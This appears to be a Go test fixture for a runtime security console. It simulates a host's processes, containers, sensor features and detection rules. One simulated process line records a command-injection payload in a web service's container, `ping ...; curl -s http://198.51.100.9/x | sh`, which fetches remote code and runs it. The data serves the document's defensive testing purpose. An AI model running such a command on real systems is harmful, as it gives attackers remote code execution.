package consoletest

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/testudo-sec/testudo/console"
)

// Shell is the key of a shell that a request started in the shop's container, and that has ended; Shop that of the shop.
const (
	Shell = "3f2a91c4-4107-9xk2"
	Shop  = "3f2a91c4-4100-9w00"
)

// hostList is what runs on the world's host; the world adds what tests put into Processes.
func (w *World) hostList() []console.ProcessGroup {
	at := w.Start
	line := func(uid string, pid, ppid, depth int, user, exe, cmd string, ago time.Duration) console.ProcessLine {
		return console.ProcessLine{UID: uid, PID: pid, Parent: ppid, Depth: depth, User: user, Exe: exe, CmdLine: cmd, Name: exe[strings.LastIndexByte(exe, '/')+1:], Started: at.Add(-ago)}
	}
	ended := func(l console.ProcessLine, after time.Duration, code, sig int) console.ProcessLine {
		l.Ended, l.Code, l.Signal = l.Started.Add(after), code, sig
		return l
	}
	day := 24 * time.Hour
	shop := &console.ContainerView{ID: "4f1c8a2be07d93aa51e6f0c2b7d84e19a3c65f708b12d4e69f0a7b3c5d8e1f20", Name: "shop", Image: "registry.example/shop:1.14", Pod: "shop-7d9c5b6f4-x2lqp", Namespace: "store", Runtime: "containerd"}
	db := &console.ContainerView{ID: "c03b5d7e9f1a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e1f3a5b7c9d1e2f4a6b8c", Name: "postgres", Image: "docker.io/library/postgres:17", Pod: "db-0", Namespace: "store", Runtime: "containerd", Privileged: true}
	return append([]console.ProcessGroup{
		{Processes: []console.ProcessLine{
			line("3f2a91c4-1-0", 1, 0, 0, "root", "/usr/lib/systemd/systemd", "/sbin/init", 9*day),
			line("3f2a91c4-612-a1", 612, 1, 1, "root", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", 9*day),
			line("3f2a91c4-3391-b7", 3391, 612, 2, "root", "/usr/sbin/sshd", "sshd: ola [priv]", time.Hour),
			line("3f2a91c4-3398-b8", 3398, 3391, 3, "ola", "/usr/bin/bash", "-bash", time.Hour),
			line("3f2a91c4-644-a2", 644, 1, 1, "root", "/usr/bin/containerd", "/usr/bin/containerd", 9*day),
			line("3f2a91c4-660-a4", 660, 1, 1, "testudo", "/usr/bin/testudo", "testudo up --config /etc/testudo/testudo.yaml", 2*time.Hour),
		}},
		{Container: db, Processes: []console.ProcessLine{
			line("3f2a91c4-3900-c1", 3900, 644, 0, "999", "/usr/lib/postgresql/17/bin/postgres", "postgres", 3*day),
			line("3f2a91c4-3951-c2", 3951, 3900, 1, "999", "/usr/lib/postgresql/17/bin/postgres", "postgres: checkpointer", 3*day),
			line("3f2a91c4-3977-c3", 3977, 3900, 1, "999", "/usr/lib/postgresql/17/bin/postgres", "postgres: shop shop 10.1.0.7(40122) idle", 40*time.Minute),
		}},
		{Container: shop, Processes: []console.ProcessLine{
			line(Shop, 4100, 644, 0, "33", "/srv/shop", "/srv/shop -listen :8081 -database postgres://shop:***@db:5432/shop", 3*time.Hour),
			ended(line(Shell, 4107, 4100, 1, "33", "/bin/dash", `sh -c "ping -c 1 127.0.0.1; curl -s http://198.51.100.9/x | sh"`, 4*time.Minute), 2100*time.Millisecond, 0, 9),
			ended(line("3f2a91c4-4108-9xk3", 4108, 4107, 2, "33", "/usr/bin/ping", "ping -c 1 127.0.0.1", 4*time.Minute), 12*time.Millisecond, 0, 0),
			ended(line("3f2a91c4-4109-9xk4", 4109, 4107, 2, "33", "/usr/bin/curl", "curl -s http://198.51.100.9/x", 4*time.Minute-time.Second), 900*time.Millisecond, 7, 0),
		}},
	}, w.MoreProcesses...)
}

// Processes knows of a host with two containers.
func (n node) Processes(_ context.Context, q console.ProcessQuery) (console.ProcessList, error) {
	n.w.Lock.Lock()
	defer n.w.Lock.Unlock()
	if err := n.w.fail(); err != nil {
		return console.ProcessList{}, err
	}
	out := console.ProcessList{Groups: []console.ProcessGroup{}, At: n.w.Now()}
	for _, g := range n.w.hostList() {
		if q.Container != "" && (q.Container == "host") != (g.Container == nil) || g.Container != nil && q.Container != "" && !strings.HasPrefix(g.Container.ID, q.Container) {
			continue
		}
		all := g.Processes
		g.Processes = []console.ProcessLine{}
		for _, l := range all {
			if l.Ended.IsZero() {
				out.Living++
			} else {
				out.Ended++
			}
			if !q.All && !l.Ended.IsZero() || !has(q.Text, l.CmdLine, l.Exe, l.User, strconv.Itoa(l.PID)) {
				continue
			}
			if l.Ended.IsZero() {
				g.Living++
			} else {
				g.Ended++
			}
			if q.Limit > 0 && len(g.Processes) >= q.Limit {
				g.More++
				continue
			}
			g.Processes = append(g.Processes, l)
		}
		if len(g.Processes) > 0 {
			out.Groups = append(out.Groups, g)
		}
	}
	return out, nil
}

// Process knows each process of the list.
func (n node) Process(_ context.Context, uid string) (console.ProcessDetail, error) {
	n.w.Lock.Lock()
	defer n.w.Lock.Unlock()
	if err := n.w.fail(); err != nil {
		return console.ProcessDetail{}, err
	}
	for _, g := range n.w.hostList() {
		i := slices.IndexFunc(g.Processes, func(l console.ProcessLine) bool { return l.UID == uid })
		if i < 0 {
			continue
		}
		d := console.ProcessDetail{ProcessLine: g.Processes[i], Cwd: "/srv", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Package: "dash 0.5.12-2",
			Container: g.Container, Lineage: []console.ProcessLine{}, Tree: []console.ProcessLine{}}
		for at := i; at > 0; {
			parent := slices.IndexFunc(g.Processes, func(l console.ProcessLine) bool { return l.PID == g.Processes[at].Parent })
			if parent < 0 || parent >= at {
				break
			}
			d.Lineage, at = append(d.Lineage, g.Processes[parent]), parent
		}
		for j := i; j < len(g.Processes) && (j == i || g.Processes[j].Depth > d.Depth); j++ {
			l := g.Processes[j]
			l.Depth -= d.Depth
			d.Tree = append(d.Tree, l)
		}
		d.Depth = 0
		return d, nil
	}
	return console.ProcessDetail{}, fmt.Errorf("process %s: %w", uid, console.ErrNotFound)
}

// Host knows of a kernel that can do most.
func (n node) Host(context.Context) (console.Host, error) {
	n.w.Lock.Lock()
	defer n.w.Lock.Unlock()
	if err := n.w.fail(); err != nil {
		return console.Host{}, err
	}
	return console.Host{Kernel: "6.12.48-cloud-amd64", By: "ebpf", SensorPID: 661, Starts: 1, Records: 18_204_331, Rate: 2310, Bytes: 2 << 30,
		Lost: []console.Count{{Key: "file-open", Count: 412}}, MaxLost: 1000, Living: 212, Ended: 4093, Mode: "monitor", Fail: "open",
		Features: []console.HostFeature{
			{Name: "exec", OK: true, Detail: "tp_btf/sched_process_exec"}, {Name: "ring buffer", OK: true, Detail: "16 MiB"}, {Name: "file opens", OK: true, Detail: "tp_btf/sys_exit"},
			{Name: "bpf-lsm", Detail: "the kernel was started without bpf in its list of security modules", Cost: "opens and connections are refused later than they could be", Mend: "lsm=landlock,lockdown,yama,integrity,apparmor,bpf on the kernel's command line"},
			{Name: "containers", OK: true, Detail: "image, labels and pod from /run/containerd/containerd.sock"}},
		Gates: []string{"cgroup-connect", "fanotify", "exec-kill", "kill"},
		Rules: []console.HostRule{
			{Rule: "host-dropped-program", Hook: "exec", Enforced: true, By: []string{"fanotify"}},
			{Rule: "host-mining-pool", Hook: "connect", Enforced: true, By: []string{"cgroup-connect"}},
			{Rule: "host-shell-of-a-service", Hook: "exec", By: []string{"exec-kill", "kill"}, Why: []string{"process.cmd_line contains 'curl'"}}}}, nil
}
